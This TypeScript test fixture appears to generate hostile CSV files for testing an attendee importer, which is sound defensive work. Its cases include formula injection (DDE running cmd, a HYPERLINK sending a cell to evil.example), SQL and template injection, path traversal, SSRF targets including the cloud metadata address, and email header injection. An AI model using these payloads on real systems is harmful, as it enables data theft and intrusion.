import { each, type Hostile, MARK, noise } from './hostile-file.ts'

const HEADER = 'tiktokUsername,firstName,lastName,email'
const rows = (...lines: string[]) => Buffer.from([HEADER, ...lines].join('\n'))
let handles = 0

/** A row of somebody new with this first name, quoted as it must be. */
function row(firstName: string): string {
  handles += 1
  return `hostile.${handles},"${firstName.replaceAll('"', '""')}",Row,`
}

/** What a spreadsheet would run, also where it looks like something else. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example/?"&A1;"click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A',
  "'=1+1",
  "''=1+1",
  '=1+1;',
  '"=1+1"',
  '=DDE("cmd";"/C calc";"x")',
]

/** Cells that are text and nothing else, however they look. */
const cells: Record<string, string> = {
  'a quote': 'a"b',
  'many quotes': '"'.repeat(500),
  'a line in a cell': 'a\nb',
  'a carriage return in a cell': 'a\rb',
  'the separator': 'a,b;c\td|e',
  'a page': `<script>alert("${MARK}")</script>`,
  'an attack on the database': "Robert'); DROP TABLE attendees;--",
  'a template': '{{constructor.constructor("return 1")()}} \x24{7*7} <%= 7*7 %>',
  'a path': '../../../../etc/passwd',
  'a zero': 'a\0b',
  'a bell': 'a\x07b',
  'text from right to left': 'a\u202egpj.exe',
  'letters that cannot be seen': 'a\u200b\u200d\u2060b',
  'a letter with a thousand accents': `a${'\u0301'.repeat(1_000)}`,
  'a mark of byte order': '\ufeffa',
  'the word null': 'null',
  'a number like a date': '1E5',
  'a long number': '9'.repeat(400),
  'a cell of ten thousand letters': 'x'.repeat(10_000),
  'a cell of a megabyte': 'x'.repeat(1024 * 1024),
  'a cell that is almost the largest file': 'x'.repeat(4.9 * 1024 * 1024),
  'a cell of ten megabytes': 'x'.repeat(10 * 1024 * 1024),
  emoji: '👩‍👩‍👧‍👦'.repeat(200),
  'the name of something every object has': '__proto__',
}

/** Places where a server that fetches pictures has no business. */
const places = [
  'http://localhost/a.jpg',
  'http://127.0.0.1:5432/a.jpg',
  'https://169.254.169.254/latest/meta-data/',
  'https://[::1]/a.jpg',
  'https://[::ffff:127.0.0.1]/a.jpg',
  'https://2130706433/a.jpg',
  'https://0x7f.1/a.jpg',
  'https://user:secret@127.0.0.1/a.jpg',
  'file:///etc/passwd',
  'gopher://evil.example/_GET',
  'data:image/svg+xml,<svg/>',
]

const files: Record<string, Buffer> = {
  'an empty file': Buffer.alloc(0),
  'a header alone': Buffer.from(HEADER),
  'no header': Buffer.from('a,b,c\nd,e,f'),
  'a header twice': Buffer.from(`${HEADER},firstName\nh1,a,b,,c`),
  'a header of what every object has': Buffer.from('__proto__,constructor,toString\n1,2,3'),
  'a thousand columns': Buffer.from(`${HEADER}${',x'.repeat(1_000)}\nh2,a,b,`),
  'a row of a thousand cells': rows(`h3${',x'.repeat(1_000)}`),
  'rows of every length': rows('h4', 'h5,a', 'h6,a,b,,,,,'),
  'more rows than an import has': Buffer.from(`${HEADER}\n${'h7,a,b,\n'.repeat(20_005)}`),
  'nothing but separators': Buffer.from(','.repeat(200_000)),
  'nothing but line ends': Buffer.from('\n'.repeat(200_000)),
  'nothing but quotes': Buffer.from('"'.repeat(200_001)),
  'an open quote': rows('"h8,a,b,'),
  'a misplaced quote': rows('h"9,a,b,'),
  'a quote that opens at the end': rows('h10,a,b,"'),
  'a UTF-8 mark': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), rows('h11,a,b,')]),
  'two UTF-8 marks': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), rows('h12,a,b,')]),
  'UTF-16, little end first': Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from(`${HEADER}\nh13,a,b,`, 'utf16le'),
  ]),
  'UTF-16, big end first': Buffer.concat([
    Buffer.from([0xfe, 0xff]),
    Buffer.from(`${HEADER}\nh14,a,b,`, 'utf16le').swap16(),
  ]),
  'UTF-16 without a mark': Buffer.from(`${HEADER}\nh15,a,b,`, 'utf16le'),
  'UTF-32': Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from('t\0\0\0i\0\0\0')]),
  'UTF-7': rows('h16,+ADw-script+AD4-,b,'),
  'Latin letters of one byte': Buffer.concat([rows('h17,J'), Buffer.from([0xf6]), Buffer.from('rg,b,')]),
  'Japanese letters of Windows': Buffer.concat([
    rows('h18,'),
    Buffer.from([0x93, 0xfa, 0x96, 0x7b]),
    Buffer.from(',b,'),
  ]),
  'bytes that are no UTF-8': Buffer.concat([
    rows('h19,'),
    Buffer.from([0xc0, 0x80, 0xfe, 0xff]),
    Buffer.from(',b,'),
  ]),
  'half of a letter at the end': Buffer.concat([rows('h20,a,b,'), Buffer.from([0xe6, 0x97])]),
  'a letter written too long': Buffer.concat([
    rows('h21,'),
    Buffer.from([0xe0, 0x80, 0xaf]),
    Buffer.from(',b,'),
  ]),
  'half a surrogate': Buffer.concat([rows('h22,'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(',b,')]),
  zeroes: Buffer.alloc(100_000),
  noise: noise(100_000, 13),
  'a workbook': Buffer.concat([
    Buffer.from('PK\x03\x04\x14\0', 'latin1'),
    Buffer.from('[Content_Types].xml'),
    noise(5_000),
  ]),
  'an archive that is a bomb': Buffer.concat([
    Buffer.from('PK\x03\x04', 'latin1'),
    Buffer.alloc(1024 * 1024),
  ]),
  'an old workbook': Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'),
  'a page': Buffer.from('<table><tr><td>tiktokUsername</td></tr></table>'),
  JSON: Buffer.from('[{"tiktokUsername":"h23","firstName":"a"}]'),
  'a picture': Buffer.from('\xff\xd8\xff\xe0\0\x10JFIF', 'latin1'),
  'line ends of old machines': Buffer.from(`${HEADER}\rh24,a,b,\r`),
  'line ends of all kinds': Buffer.from(`${HEADER}\r\nh25,a,b,\rh26,a,b,\nh27,a,b,\n\r`),
  'line ends that only Unicode knows': Buffer.from(`${HEADER}\u2028h28,a,b,\u2029h29,a,b,`),
  'the same person a thousand times': rows(...Array<string>(1_000).fill('h30,a,b,')),
  'an id that is somebody else’s': Buffer.from(`id,${HEADER}\n' OR 1=1 --,h31,a,b,`),
  'an address with a second header': rows('"h32","a","b","a@b.example\r\nBcc: c@d.example"'),
  'a role that nobody gave': Buffer.from(`${HEADER},role,isCrew\nh33,a,b,,admin,yes`),
  'points that nobody earned': Buffer.from(`${HEADER},totalPoints\nh34,a,b,,99999`),
  'a tag that is a query': Buffer.from(`${HEADER},wristbandTag\nh35,a,b,,' OR 1=1`),
  'a language that there is not': Buffer.from(`${HEADER},language\nh36,a,b,,xx-XX`),
}

/** Files that somebody might import. */
export function hostileTables(): Hostile<Buffer>[] {
  return [
    ...formulas.map((formula) => ({
      name: `the formula ${JSON.stringify(formula)}`,
      content: rows(row(formula)),
    })),
    ...each(cells, (cell) => rows(row(cell))).map(({ name, content }) => ({
      name: `a cell with ${name}`,
      content,
    })),
    ...places.map((place, at) => ({
      name: `a picture at ${place}`,
      content: Buffer.from(`${HEADER},avatarUrl\npicture.${at},a,b,,${place}`),
    })),
    ...each(files, (file) => file),
  ]
}
